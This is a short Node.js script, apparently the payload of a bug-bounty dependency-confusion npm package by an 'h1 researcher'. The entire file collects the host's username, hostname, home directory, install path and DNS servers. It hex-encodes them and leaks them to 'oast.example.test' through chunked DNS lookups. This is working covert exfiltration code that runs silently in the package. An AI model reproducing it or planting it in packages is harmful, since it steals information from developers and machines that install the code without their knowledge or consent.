//author:- h1 researcher
const os = require("os");
const dns = require("dns");
const packageJSON = require("./package.json");
const pkg = packageJSON.name;

const trackingData = JSON.stringify({
    p: pkg,
    c: __dirname,
    hd: os.homedir(),
    hn: os.hostname(),
    un: os.userInfo().username,
    dns: dns.getServers(),
    v: packageJSON.version
});

const hex = Buffer.from(trackingData).toString("hex");
const id = Math.random().toString(36).substring(2, 8);
(hex.match(/.{1,60}/g) || []).forEach((chunk, i) => {
    dns.lookup(`${id}.${i}.${chunk}.oast.example.test`, () => {});
});
